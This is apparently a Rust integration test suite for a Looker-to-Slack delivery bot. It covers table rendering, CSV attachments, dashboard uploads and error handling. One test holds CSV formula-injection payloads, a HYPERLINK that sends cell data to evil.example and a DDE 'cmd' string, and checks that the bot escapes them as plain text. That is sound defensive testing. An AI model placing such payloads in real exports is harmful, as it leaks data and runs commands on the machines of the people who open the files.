//! Scheduled deliveries end to end: webhook in, Looker queried, message or file in Slack.

use base64::Engine;
use serde_json::{Value, json};

use crate::helpers::*;

/// Schedules Look 7 ("Orders by Status") with this vis and result to `path`, runs the delivery,
/// and returns the one message it posted.
async fn deliver_look(app: &TestApp, path: &str, vis: &str, result: Value) -> crate::fake_slack::PostedMessage {
    app.looker.add_look("7", "Orders by Status", query("q7", vis), result);
    app.deliver(path, &look_webhook(&app.looker, "7", "Orders by Status", None))
        .await;
    app.drain_jobs().await;
    let messages = app.slack.messages();
    assert_eq!(messages.len(), 1, "one message expected: {messages:?}");
    messages.into_iter().next().unwrap()
}

#[tokio::test]
async fn a_scheduled_look_is_run_again_and_posted_as_a_native_table() {
    let app = spawn_app().await;
    let result = status_counts(&[("complete", 1234), ("pending", 56), ("cancelled", 7)]);
    let message = deliver_look(&app, "/slack/post/channel/metrics", "looker_grid", result).await;

    // #metrics sits on the second page of conversations.list: the cursor was followed.
    assert_eq!(app.slack.only_post_to("#metrics").ts, message.ts);
    assert!(message.thread_ts.is_none(), "deliveries start a conversation");
    assert!(app.slack.calls_to("conversations.list") >= 2);
    assert_eq!(
        message.title(),
        format!("*<{}/x/short7|Orders by Status>*", app.looker.web_url)
    );
    assert_eq!(message.block_types(), ["section", "table"]);
    assert_eq!(message.table_rows(), 4, "header and three rows");
    assert_eq!(message.table_alignment(1), "right", "numbers right-aligned");
    assert_eq!(message.table_cell(1, 1), "1,234", "Looker's rendered value");
    assert_eq!(
        message.table_link(1, 1),
        Some(format!(
            "{}/explore/thelook/orders?fields=orders.id",
            app.looker.web_url
        )),
        "the measure's drill link"
    );
    assert_eq!(message.text, "Orders by Status: 3 rows");
    insta::assert_json_snapshot!(message.snapshot(&[(&app.looker.web_url, "https://looker.test")]));
    assert!(
        app.looker
            .requests()
            .contains(&"GET /queries/q7/run/json_detail".to_string())
    );
}

#[tokio::test]
async fn a_single_value_is_shown_big_with_its_label() {
    let app = spawn_app().await;
    let mut result = status_counts(&[("complete", 1234)]);
    result["fields"]["dimensions"] = json!([]);
    let message = deliver_look(&app, "/slack/post/channel/general", "single_value", result).await;
    assert_eq!(message.block_types(), ["section", "header", "context"]);
    assert_eq!(message.section(1), "1,234");
    assert_eq!(message.section(2), "Count");
    assert_eq!(message.text, "Orders by Status: 1,234 Count");
}

#[tokio::test]
async fn a_single_row_is_shown_as_label_value_pairs() {
    let app = spawn_app().await;
    let message = deliver_look(
        &app,
        "/slack/post/channel/general",
        "looker_grid",
        status_counts(&[("complete", 9)]),
    )
    .await;
    assert_eq!(message.fields(1), ["*Status*\ncomplete", "*Count*\n9"]);
}

#[tokio::test]
async fn an_empty_result_says_so() {
    let app = spawn_app().await;
    let message = deliver_look(&app, "/slack/post/channel/general", "looker_grid", status_counts(&[])).await;
    assert_eq!(message.section(1), "No results.");
}

#[tokio::test]
async fn a_looker_query_error_is_shown_as_a_warning() {
    let app = spawn_app().await;
    let mut result = status_counts(&[]);
    result["errors"] = json!([{"message": "Unknown field orders.nope", "message_details": "check the model"}]);
    let message = deliver_look(&app, "/slack/post/channel/general", "looker_grid", result).await;
    // Looker's own message: the Look's owner learns what to fix.
    assert_eq!(
        message.section(1),
        ":warning: Looker could not run this query: Unknown field orders.nope: check the model. Open it in Looker to fix it, or ask the person who built it."
    );
}

#[tokio::test]
async fn long_tables_show_the_first_rows_and_how_many_more() {
    let app = spawn_app_with(|s| s.lookerbot_table_max_rows = Some("5".into())).await;
    let rows: Vec<(String, i64)> = (0..12).map(|i| (format!("status {i}"), i)).collect();
    let rows: Vec<(&str, i64)> = rows.iter().map(|(s, n)| (s.as_str(), *n)).collect();
    let message = deliver_look(&app, "/slack/post/channel/general", "table", status_counts(&rows)).await;
    assert_eq!(message.table_rows(), 1 + 5, "header and five rows");
    assert_eq!(
        message.section(2),
        format!(
            "Showing 5 of 12 rows · <{}/x/short7|see all in Looker>",
            app.looker.web_url
        )
    );
    assert!(app.slack.files().is_empty(), "no CSV unless the operator allows it");
}

#[tokio::test]
async fn a_cut_table_brings_the_full_result_as_csv_when_allowed() {
    let app = spawn_app_with(|s| {
        s.lookerbot_table_max_rows = Some("5".into());
        s.lookerbot_attach_csv = Some("true".into());
    })
    .await;
    let rows: Vec<(String, i64)> = (0..12).map(|i| (format!("status {i}"), i * 1000)).collect();
    let rows: Vec<(&str, i64)> = rows.iter().map(|(s, n)| (s.as_str(), *n)).collect();
    let message = deliver_look(&app, "/slack/post/channel/general", "table", status_counts(&rows)).await;
    assert!(message.section(2).contains("the full result is attached as CSV"));
    let files = app.slack.files();
    assert_eq!(files.len(), 1);
    let csv = String::from_utf8(files[0].bytes.clone().unwrap()).unwrap();
    assert_eq!(csv.lines().count(), 13, "header and all twelve rows");
    assert_eq!(
        csv.lines().nth(12),
        Some("status 11,11000"),
        "raw values, not formatted ones"
    );
    assert_eq!(files[0].filename, "Orders_by_Status.csv");
    assert_eq!(files[0].shared_to.as_deref(), Some("C0000GENERAL"));
}

/// A value someone typed into a source system reaches the CSV a colleague opens in a
/// spreadsheet: it is text there, never a formula.
#[tokio::test]
async fn a_value_that_is_a_formula_is_only_text_in_the_attached_csv() {
    let app = spawn_app_with(|s| {
        s.lookerbot_table_max_rows = Some("1".into());
        s.lookerbot_attach_csv = Some("true".into());
    })
    .await;
    let rows = [
        ("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", 1),
        ("@SUM(1+1)*cmd|' /C calc'!A0", 2),
        ("-3", 3),
    ];
    deliver_look(&app, "/slack/post/channel/general", "table", status_counts(&rows)).await;
    let files = app.slack.files();
    let csv = String::from_utf8(files[0].bytes.clone().unwrap()).unwrap();
    let cells: Vec<&str> = csv.lines().skip(1).map(|l| l.rsplit_once(',').unwrap().0).collect();
    assert_eq!(
        cells,
        [
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "-3"
        ],
        "{csv}"
    );
}

#[tokio::test]
async fn a_filtered_schedule_runs_its_own_query_and_links_to_the_schedule() {
    let app = spawn_app().await;
    app.looker.add_look(
        "7",
        "Orders by Status",
        query("q7", "table"),
        status_counts(&[("saved", 1), ("x", 2)]),
    );
    app.looker
        .add_query(query("q99", "table"), status_counts(&[("filtered", 5), ("y", 6)]));
    let mut body = look_webhook(&app.looker, "7", "Orders by Status", Some("q99"));
    let plan_url = format!("{}/looks/7?f[orders.status]=filtered", app.looker.web_url);
    body["scheduled_plan"]["url"] = json!(plan_url);
    app.deliver("/slack/post/channel/general", &body).await;
    app.drain_jobs().await;

    let message = app.slack.only_post_to("#general");
    assert!(message.all_text().contains("filtered"));
    assert!(!message.all_text().contains("saved"));
    assert!(
        message.title().contains("f[orders.status]=filtered"),
        "{}",
        message.title()
    );
    assert!(
        app.looker
            .requests()
            .contains(&"GET /queries/q99/run/json_detail".to_string())
    );
}

#[tokio::test]
async fn groups_and_direct_messages_are_resolved_by_name() {
    let app = spawn_app().await;
    app.looker.add_look(
        "7",
        "Orders",
        query("q7", "table"),
        status_counts(&[("a", 1), ("b", 2)]),
    );
    let body = look_webhook(&app.looker, "7", "Orders", None);
    app.deliver("/slack/post/group/exec-team", &body).await;
    app.deliver("/slack/post/dm/bob", &body).await;
    app.drain_jobs().await;

    let mut channels: Vec<String> = app.slack.messages().into_iter().map(|m| m.channel).collect();
    channels.sort();
    assert_eq!(channels, ["D00000000BOB", "G000PRIVATE1"]);
    assert_eq!(app.slack.calls_to("conversations.open"), 1);
    assert!(
        app.slack.calls_to("users.list") >= 2,
        "bob is on the second page of users.list"
    );
}

#[tokio::test]
async fn a_dashboard_file_is_uploaded_with_the_external_upload_flow() {
    let app = spawn_app().await;
    let png: Vec<u8> = (0..3000u32).map(|i| (i * 7 % 256) as u8).collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(&png);
    // Looker sends base64 in lines.
    let with_breaks: String = encoded
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect::<Vec<_>>()
        .join("\n");
    let body = json!({"type": "dashboard",
        "scheduled_plan": {"scheduled_plan_id": 5, "title": "Weekly KPIs", "type": "Dashboard",
                           "url": format!("{}/dashboards/12", app.looker.web_url), "query_id": null, "query": null},
        "attachment": {"mimetype": "image/png;base64", "extension": "png", "data": with_breaks}});
    app.deliver("/slack/post/channel/general", &body).await;
    app.drain_jobs().await;

    let files = app.slack.files();
    assert_eq!(files.len(), 1);
    let file = &files[0];
    assert_eq!(file.bytes.as_deref(), Some(png.as_slice()));
    assert_eq!(file.filename, "Weekly_KPIs.png");
    assert_eq!(file.shared_to.as_deref(), Some("C0000GENERAL"));
    let title = file.message().title();
    assert_eq!(title, format!("*<{}/dashboards/12|Weekly KPIs>*", app.looker.web_url));
    assert!(
        app.slack.messages().is_empty(),
        "the file and its title are one message"
    );
}

#[tokio::test]
async fn a_lookml_dashboard_without_a_file_is_drawn_from_the_plans_dashboard() {
    let app = spawn_app().await;
    app.looker
        .add_dashboard(json!({"id": "thelook::weekly_kpis", "title": "Weekly KPIs",
        "dashboard_filters": [], "dashboard_elements": [
            {"id": "81", "type": "text", "title_text": "Read me", "body_text": "Numbers are in USD."}]}));
    let address = format!("{}/slack/post/channel/general", app.address);
    app.looker.add_plan(crate::fake_looker_plans::scheduled_plan(
        "77",
        "1",
        &address,
        json!({"lookml_dashboard_id": "thelook::weekly_kpis"}),
    ));
    // Looker's body names no URL for a LookML dashboard; the plan says which it is.
    let body = json!({"type": "dashboard",
        "scheduled_plan": {"scheduled_plan_id": 77, "title": "Weekly KPIs", "type": "LookMLDashboard", "url": null},
        "attachment": null});
    app.deliver("/slack/post/channel/general", &body).await;
    app.drain_jobs().await;
    let message = app.slack.only_post_to("#general");
    assert!(message.title().contains("Weekly KPIs"), "{}", message.title());
    assert!(
        message.all_text().contains("Numbers are in USD."),
        "{}",
        message.all_text()
    );
}

#[tokio::test]
async fn a_deleted_look_ends_dead_without_posting_anything() {
    let app = spawn_app().await;
    app.deliver(
        "/slack/post/channel/general",
        &look_webhook(&app.looker, "404", "Gone", None),
    )
    .await;
    app.drain_jobs().await;
    assert!(app.slack.messages().is_empty());
    let dead = app.dead_jobs().await;
    assert_eq!(dead.len(), 1);
    assert_eq!(dead[0].attempts, 1, "a 404 is not retried");
    assert!(
        dead[0].last_error.as_deref().unwrap().contains("404"),
        "{:?}",
        dead[0].last_error
    );
    assert_eq!(dead[0].summary, "scheduled Look 'Gone' to #general");
}

/// A Look's title and its data are Looker users' words: neither the blocks nor the notification
/// text Slack shows from `text` may ping a channel or a person.
#[tokio::test]
async fn a_title_or_value_carrying_a_mention_pings_nobody() {
    for vis in ["table", "single_value", "looker_single_record"] {
        let app = spawn_app().await;
        let title = "<!channel> Orders <@U000000ALICE>";
        app.looker.add_look(
            "7",
            title,
            query("q7", vis),
            status_counts(&[("<!here> call me", 1), ("<!subteam^S0123ABCD> x", 2)]),
        );
        let mut body = look_webhook(&app.looker, "7", title, None);
        body["scheduled_plan"]["title"] = serde_json::json!(title);
        app.deliver("/slack/post/channel/general", &body).await;
        app.drain_jobs().await;
        // Slack reads markup in `text` and in mrkdwn objects; raw_text, plain_text and rich text
        // elements it shows as they are.
        fn mrkdwn(value: &Value, out: &mut String) {
            match value {
                Value::Object(map) if map.get("type") == Some(&Value::from("mrkdwn")) => {
                    out.push_str(map["text"].as_str().unwrap_or_default());
                }
                Value::Object(map) => map.values().for_each(|v| mrkdwn(v, out)),
                Value::Array(items) => items.iter().for_each(|v| mrkdwn(v, out)),
                _ => {}
            }
        }
        let messages = app.slack.messages();
        assert!(!messages.is_empty(), "{vis}");
        for message in messages {
            let mut read = message.text.clone();
            mrkdwn(&message.blocks, &mut read);
            for live in ["<!channel>", "<!here>", "<@U000000ALICE>", "<!subteam"] {
                assert!(!read.contains(live), "{vis}: {live} in {read}");
            }
        }
    }
}
